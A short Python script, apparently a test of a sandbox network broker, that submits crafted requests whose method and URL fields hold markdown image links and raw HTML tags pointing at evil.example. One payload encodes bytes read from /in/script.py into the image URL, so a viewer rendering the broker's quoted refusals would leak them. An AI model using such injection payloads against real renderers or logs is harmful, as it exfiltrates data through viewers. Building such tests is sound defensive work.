# The broker's refusals are quoted in the result's Safety Notes, and their words come
# from the request the guest wrote: the method (16 characters, upper-cased: enough for a
# protocol-relative image), the URL's scheme (quoted whole when it is not http or https),
# raw HTML as a method. Rendered as prose, each would make a viewer fetch evil.example.
import json
import os
import time

data = open("/in/script.py", "rb").read()[:6].hex()
requests = [
    {"method": "![X](//E.CO/P)", "url": "http://127.0.0.1:9/"},
    {"method": "<IMG SRC=//E.CO>", "url": "http://127.0.0.1:9/"},
    {"method": "GET", "url": "![x](https:&#47;&#47;evil.example&#47;p.png?d=" + data + ")://x/"},
    {"method": "GET", "url": "<https:&#47;&#47;evil.example>://x/"},
]
for n, req in enumerate(requests, 1):
    tmp = "/net/%d.req.tmp" % n
    with open(tmp, "wb") as f:
        f.write(json.dumps(req).encode() + b"\n")
    os.rename(tmp, "/net/%d.req" % n)
    answer = "/net/%d.resp" % n
    deadline = time.monotonic() + 10
    while not os.path.exists(answer) and time.monotonic() < deadline:
        time.sleep(0.01)
    with open(answer, "rb") as f:
        print(f.read().partition(b"\n")[0].decode())
print("asked the broker")
